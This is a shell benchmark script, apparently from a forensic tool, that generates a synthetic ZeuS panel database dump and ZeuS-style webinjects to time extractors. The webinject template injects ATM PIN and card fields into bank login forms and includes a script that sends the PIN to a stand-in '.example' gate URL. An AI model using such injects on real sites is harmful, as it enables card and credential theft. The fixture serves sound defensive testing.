#!/bin/sh
# extractors.sh - time the extractors that read the largest files.
#
#     sh bench/extractors.sh BUILD_DIR
#
# Makes two inputs, the same on every run (awk, no randomness):
#   cpdb.sql        a mysqldump of a ZeuS panel's database of about
#                   BENCH_SQL_MB MiB (default 500): botnet_list with its 16
#                   columns, in extended INSERTs of about 1 MiB as mysqldump
#                   writes them (a line each), one bot a row, its os_version
#                   and ipv4 binary and escaped as mysqldump escapes them;
#                   then cp_users and the trailer;
#   webinjects.txt  ZeuS-style webinjects of about BENCH_WEBINJECTS_MB MiB
#                   (default 200): set_url targets, each with data_before,
#                   two data_inject and data_after blocks of HTML and
#                   script lines.
# Then runs BUILD_DIR/bench/extractors (one core, the content read with
# pread from a warm page cache) BENCH_RUNS times (default 3) on each and
# keeps the best.  Targets: sql-dump 200 MB/s, zeus-webinjects 100 MB/s.
# Exits non-zero when a tool fails or is missing or a record is not what
# the input holds, never on speed: a missed target is printed as
# BELOW TARGET.
set -eu

prog=bench
die() {
	echo "$prog: $*" >&2
	exit 1
}

build=${1:-}
[ -n "$build" ] || die "usage: sh bench/extractors.sh BUILD_DIR"
driver=$build/bench/extractors
[ -x "$driver" ] || die "missing '$driver' (make $driver)"
for tool in awk wc cat mktemp; do
	command -v "$tool" >/dev/null 2>&1 || die "missing tool '$tool'"
done
sql_mb=${BENCH_SQL_MB:-500}
wi_mb=${BENCH_WEBINJECTS_MB:-200}
runs=${BENCH_RUNS:-3}
for v in "$sql_mb" "$wi_mb" "$runs"; do
	case $v in
	'' | *[!0-9]* | 0) die "BENCH_SQL_MB, BENCH_WEBINJECTS_MB and BENCH_RUNS must be whole numbers" ;;
	esac
done
read -r load _ </proc/loadavg || load=unknown

dir=$(mktemp -d "${TMPDIR:-/tmp}/custody-bench.XXXXXX")
trap 'rm -rf "$dir"' EXIT
trap 'exit 130' INT TERM

echo "$prog: writing a mysqldump of $sql_mb MiB" >&2
# awk in the C locale writes bytes, and counts them
LC_ALL=C awk -v total="$((sql_mb * 1048576))" 'BEGIN {
	for (i = 0; i < 256; i++)
		esc[i] = sprintf("%c", i)
	esc[0] = "\\0"; esc[10] = "\\n"; esc[13] = "\\r"; esc[26] = "\\Z"
	esc[39] = "\\\047"; esc[34] = "\\\""; esc[92] = "\\\\"
	nc = split("RU UA US DE NL GB FR IT ES PL BR IN KZ BY TR", cc, " ")
	nh = split("WIN-PC HOME-PC OFFICE ACCOUNTING DESKTOP LAPTOP SRV", host, " ")
	# os_version: the OS info of ZeuS, 12 bytes (XP SP3, 7 SP1, 8.1, 10)
	no = split("10 0 0 0 40 10 0 0 3 0 0 0|6 1 0 0 177 29 0 0 1 0 0 0|" \
	    "6 3 0 0 128 37 0 0 0 0 1 0|10 0 0 0 99 69 0 0 0 0 1 0", osb, "|")
	for (k = 1; k <= no; k++) {
		split(osb[k], v, " ")
		os[k] = ""
		for (j = 1; j <= 12; j++)
			os[k] = os[k] esc[v[j] + 0]
	}
	print "-- MySQL dump 10.13  Distrib 5.5.62, for debian-linux-gnu (x86_64)"
	print "--"
	print "-- Host: localhost    Database: cpdb"
	print "-- ------------------------------------------------------"
	print "-- Server version\t5.5.62-0+deb8u1"
	print ""
	print "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;"
	print "/*!40101 SET NAMES utf8 */;"
	print "/*!40103 SET TIME_ZONE=\047+00:00\047 */;"
	print ""
	print "--"
	print "-- Table structure for table `botnet_list`"
	print "--"
	print ""
	print "DROP TABLE IF EXISTS `botnet_list`;"
	print "CREATE TABLE `botnet_list` ("
	print "  `bot_id` varchar(100) NOT NULL,"
	print "  `botnet` varchar(20) NOT NULL DEFAULT \047-- default --\047,"
	print "  `bot_version` int(10) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `net_latency` int(10) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `tcpport_s1` smallint(5) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `time_localbias` int(10) NOT NULL DEFAULT \0470\047,"
	print "  `os_version` tinyblob NOT NULL,"
	print "  `language_id` smallint(5) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `ipv4` varbinary(4) NOT NULL DEFAULT \047\\0\\0\\0\\0\047,"
	print "  `country` varchar(2) NOT NULL DEFAULT \047--\047,"
	print "  `rtime_first` int(10) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `rtime_last` int(10) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `rtime_online` int(10) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `flag_used` tinyint(1) unsigned NOT NULL DEFAULT \0470\047,"
	print "  `flag_new` tinyint(1) unsigned NOT NULL DEFAULT \0471\047,"
	print "  `comment` tinytext,"
	print "  PRIMARY KEY (`bot_id`),"
	print "  KEY `botnet` (`botnet`),"
	print "  KEY `country` (`country`)"
	print ") ENGINE=MyISAM DEFAULT CHARSET=utf8;"
	print ""
	print "LOCK TABLES `botnet_list` WRITE;"
	print "/*!40000 ALTER TABLE `botnet_list` DISABLE KEYS */;"
	bytes = 2000
	n = 0
	while (bytes < total) {
		# a line of about 1 MiB, written a row at a time
		printf "INSERT INTO `botnet_list` VALUES "
		bytes += 34
		for (r = 0; r < 6000 && bytes < total; r++) {
			a = n % 251 + 2; b = int(n / 251) % 256; c = int(n / 64256) % 256
			d = (n * 7) % 256
			ip = esc[a] esc[b] esc[c] esc[d]
			first = 1300000000 + (n * 37) % 40000000
			comment = n % 17 == 0 ? sprintf("\047seen %d times; user=\\\047admin\\\047\047", n % 90) : "NULL"
			row = sprintf("(\047%s_%08d%08d\047,\047btn%d\047,%d,%d,%d,%d,\047%s\047,%d,\047%s\047,\047%s\047,%d,%d,%d,%d,%d,%s)",
			    host[n % nh + 1], n * 7919 % 100000000, n, n % 9 + 1,
			    33620225 + n % 5, n % 900, 1024 + n % 60000,
			    (n % 25 - 12) * 3600, os[n % no + 1], n % 3 ? 1049 : 1033,
			    ip, cc[n % nc + 1], first, first + n % 86400,
			    first + n % 3600, n % 2, n % 3 == 0, comment)
			printf "%s%s", r ? "," : "", row
			bytes += length(row) + 1
			n++
		}
		print ";"
		bytes += 2
	}
	print "/*!40000 ALTER TABLE `botnet_list` ENABLE KEYS */;"
	print "UNLOCK TABLES;"
	print ""
	print "DROP TABLE IF EXISTS `cp_users`;"
	print "CREATE TABLE `cp_users` (`id` int(10) unsigned NOT NULL AUTO_INCREMENT, `name` varchar(20) NOT NULL, `pass` varchar(32) NOT NULL, `comment` tinytext, PRIMARY KEY (`id`)) ENGINE=MyISAM DEFAULT CHARSET=utf8;"
	print "INSERT INTO `cp_users` VALUES (1,\047admin\047,\04721232f297a57a5a743894a0e4a801fc3\047,\047Default user\047),(2,\047oper\047,\0475f4dcc3b5aa765d61d8327deb882cf99\047,NULL);"
	print "/*!40101 SET CHARACTER_SET_CLIENT=@OLD_CHARACTER_SET_CLIENT */;"
	print ""
	print "-- Dump completed on 2011-03-16 14:05:00"
	printf "%d\n", n > "/dev/stderr"
}' >"$dir/cpdb.sql" 2>"$dir/bots"
bots=$(cat "$dir/bots")
sql_bytes=$(wc -c <"$dir/cpdb.sql")

echo "$prog: writing webinjects of $wi_mb MiB" >&2
LC_ALL=C awk -v total="$((wi_mb * 1048576))" 'BEGIN {
	nb = split("bank-one.example banka.example credit-union.example " \
	    "sparkasse-x.example pay.example", bank, " ")
	bytes = 0
	n = 0
	while (bytes < total) {
		b = bank[n % nb + 1]
		s = sprintf("set_url https://*.%s/cgi-bin/login%d.cgi* GP%s\n", b, n,
		    n % 4 ? "" : "L")
		s = s "data_before\n<form name=\"login\" action=\"/cgi-bin/auth*\"*>\ndata_end\n"
		s = s "data_inject\n"
		s = s "<tr><td class=\"label\">ATM PIN:</td><td><input type=\"password\" name=\"atm_pin\" maxlength=\"4\" size=\"6\" autocomplete=\"off\"></td></tr>\n"
		s = s "<tr><td class=\"label\">Card number:</td><td><input type=\"text\" name=\"card_no\" maxlength=\"19\" size=\"22\"></td></tr>\n"
		s = s sprintf("<script type=\"text/javascript\">var _i%d = document.forms[0]; _i%d.onsubmit = function() { new Image().src = \"https://stat%d.example/gate.php?b=\" + escape(_i%d.atm_pin.value); };</script>\n", n, n, n % 50, n)
		s = s "data_end\n"
		s = s "data_after\n</form>\ndata_end\n"
		s = s "data_inject\n<p style=\"color:#c00\">For your security, please confirm your details.</p>\ndata_end\n\n"
		printf "%s", s
		bytes += length(s)
		n++
	}
	printf "%d\n", n > "/dev/stderr"
}' >"$dir/webinjects.txt" 2>"$dir/targets"
targets=$(cat "$dir/targets")
wi_bytes=$(wc -c <"$dir/webinjects.txt")
cat "$dir/cpdb.sql" "$dir/webinjects.txt" >/dev/null # warm the page cache

# best NAME FILE: run the driver $runs times, print the best rate (MB/s);
# the last run's output is kept in $dir/NAME.out
best() {
	b=
	i=0
	while [ "$i" -lt "$runs" ]; do
		"$driver" "$1" "$2" >"$dir/$1.out" 2>"$dir/$1.err" ||
			die "$1 failed: $(cat "$dir/$1.err")"
		r=$(awk '$1 == "rate" { print $4 }' "$dir/$1.out")
		b=$(awk -v r="$r" -v b="$b" 'BEGIN {
			if (b == "" || r + 0 > b + 0) b = r
			print b
		}')
		i=$((i + 1))
	done
	echo "$b"
}

echo "$prog: sql-dump, best of $runs" >&2
r_sql=$(best sql-dump "$dir/cpdb.sql")
echo "$prog: zeus-webinjects, best of $runs" >&2
r_wi=$(best zeus-webinjects "$dir/webinjects.txt")

# each record must hold what its input holds
victims=$(awk '$1 == "record" { for (i = 3; i <= NF; i++) if ($i ~ /^targets\.victims=/) { sub(/.*=/, "", $i); print $i } }' "$dir/sql-dump.out")
tables=$(awk '$1 == "record" { for (i = 3; i <= NF; i++) if ($i ~ /^controller\.tables=/) { sub(/.*=/, "", $i); print $i } }' "$dir/sql-dump.out")
creds=$(awk '$1 == "record" { for (i = 3; i <= NF; i++) if ($i ~ /^credentials=/) { sub(/.*=/, "", $i); print $i } }' "$dir/sql-dump.out")
want=$((bots < 100000 ? bots : 100000))
[ "${victims:-0}" -eq "$want" ] ||
	die "sql-dump found ${victims:-no} victims of $bots bots (a list keeps 100000)"
[ "${tables:-0}" -eq 2 ] || die "sql-dump found ${tables:-no} tables, not 2"
[ "${creds:-0}" -eq 2 ] || die "sql-dump found ${creds:-no} operators, not 2"
injects=$(awk '$1 == "record" { for (i = 3; i <= NF; i++) if ($i ~ /^targets\.webinjects=/) { sub(/.*=/, "", $i); print $i } }' "$dir/zeus-webinjects.out")
want=$((targets < 100000 ? targets : 100000))
[ "${injects:-0}" -eq "$want" ] ||
	die "zeus-webinjects found ${injects:-no} targets of $targets (a list keeps 100000)"

awk -v sb="$sql_bytes" -v wb="$wi_bytes" -v rs="$r_sql" -v rw="$r_wi" \
	-v runs="$runs" -v load="$load" -v bots="$bots" -v targets="$targets" '
function verdict(ok) { return ok ? "" : "  BELOW TARGET" }
BEGIN {
	printf "\nextractors, one core, from the page cache, best of %d runs\n", runs
	printf "(MB = 10^6 bytes; load average %s before the runs)\n\n", load
	printf "%-52s %9s %9s %9s\n", "extractor and input", "MiB", "MB/s", "target"
	printf "%-52s %9.1f %9.1f %9d%s\n",
		sprintf("sql-dump, mysqldump of %d bots", bots), sb / 1048576, rs,
		200, verdict(rs >= 200)
	printf "%-52s %9.1f %9.1f %9d%s\n",
		sprintf("zeus-webinjects, %d targets", targets), wb / 1048576, rw,
		100, verdict(rw >= 100)
}'
